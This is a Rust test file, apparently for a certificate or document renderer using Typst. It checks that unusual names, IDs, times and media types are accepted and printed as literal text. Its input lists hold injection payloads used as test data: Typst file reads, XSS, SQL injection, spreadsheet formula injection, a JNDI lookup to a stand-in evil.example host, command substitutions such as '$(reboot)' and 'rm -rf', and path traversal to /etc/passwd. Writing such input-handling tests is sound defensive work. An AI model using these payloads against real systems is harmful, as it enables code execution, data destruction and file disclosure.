//! Strange, and harmless: it is text, and is printed as text.

use super::table::{Gets::Printed, Table};
use serde_json::json;

/// Accepted, and on paper what it is: text.
pub fn text_that_is_only_text(table: &mut Table) {
    for name in [
        "#read(\"/etc/passwd\")",
        "#import \"/x.typ\": *",
        "#set page(fill: red)",
        "#while true {}",
        "#eval(\"1+1\")",
        "#{ panic() }",
        "#text(size: 900pt)[x]",
        "*bold* _slanted_",
        "$x^2$ and $",
        "= Heading",
        "- item",
        "+ item",
        "/ term: x",
        "// a comment",
        "/* never closed",
        "`raw` ```raw",
        "<label> @reference",
        "a \\ b \\u{41}",
        "~tilde~",
        "[brackets",
        "{braces",
        "'quoted' \"twice\"",
        "https://evil.example/",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "&lt;&#x41;",
        "'; DROP TABLE certificate; --",
        "' OR '1'='1",
        "=HYPERLINK(\"http://evil.example\")",
        "+CMD|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "%s%n%x",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "$(reboot)",
        "a;rm -rf x",
        "../../etc/passwd",
        "(/URI (javascript:1))",
        ") Tj ET (",
        "endstream endobj",
        "Nom d'Éléphant-Œuvre",
        "O’Brien–Das (Jr.)",
    ] {
        table.prints(name);
    }
    table.set(Printed, "/data/applicant/name/en", json!("W".repeat(200)));
    table.set(Printed, "/data/applicant/name/en", json!("Wm ".repeat(66)));
    table.set(Printed, "/data/applicant/name/bn", json!("ক্ষ্ম্য".repeat(28)));
    table.set(Printed, "/data/applicant/name/bn", json!("র\u{200D}্যাম"));
    for number in [
        "../../../etc/passwd",
        "/etc/passwd",
        "a/../../b",
        "C:\\Windows\\x",
        "%2e%2e%2fx",
        "x;reboot",
        "$(reboot)",
        "' OR 1=1 --",
        "--help",
        "-",
        ".",
        "..",
        "*",
        "CON",
        "<b>x</b>",
        "#read(\"x\")",
    ] {
        table.set(Printed, "/data/application_no", json!(number));
    }
    // Lengths are counted in characters, media types and numbers are read as their standards have them.
    table.set(Printed, "/subject", json!("ক".repeat(256)));
    table.set(Printed, "/dataschema", json!("https://mohor.example/".to_owned() + &"ক".repeat(1000)));
    table.set(Printed, "/traceparent", json!("ক".repeat(1024)));
    table.set(Printed, "/extension", json!(1.0));
    for kind in [
        "Application/JSON",
        "application/json; charset=utf-8",
        "application/json;charset=\"UTF-8\"",
        "application/json ; Charset=utf-8 ;",
    ] {
        table.set(Printed, "/datacontenttype", json!(kind));
    }
    table.set(Printed, "/data/applicant/name/bn", json!("\u{9DC}".repeat(200)));
    table.set(Printed, "/data/applicant/name/en", json!("e\u{301}".repeat(100)));
    table.set(Printed, "/data/valid_until", json!("9999-12-31"));
    for time in ["2026-09-13T04:24:00.123456789-00:00", "9999-12-31T23:59:59-23:59", "0000-02-29T00:00:00+23:59"] {
        table.set(Printed, "/time", json!(time));
    }
    // For a department's own id a strange one is an id.
    table.set(Printed, "/id", json!("../../etc/passwd"));
    table.set(Printed, "/source", json!("/departments/BCW/../../etc"));
    table.set(Printed, "/traceparent", json!("<script>"));
}
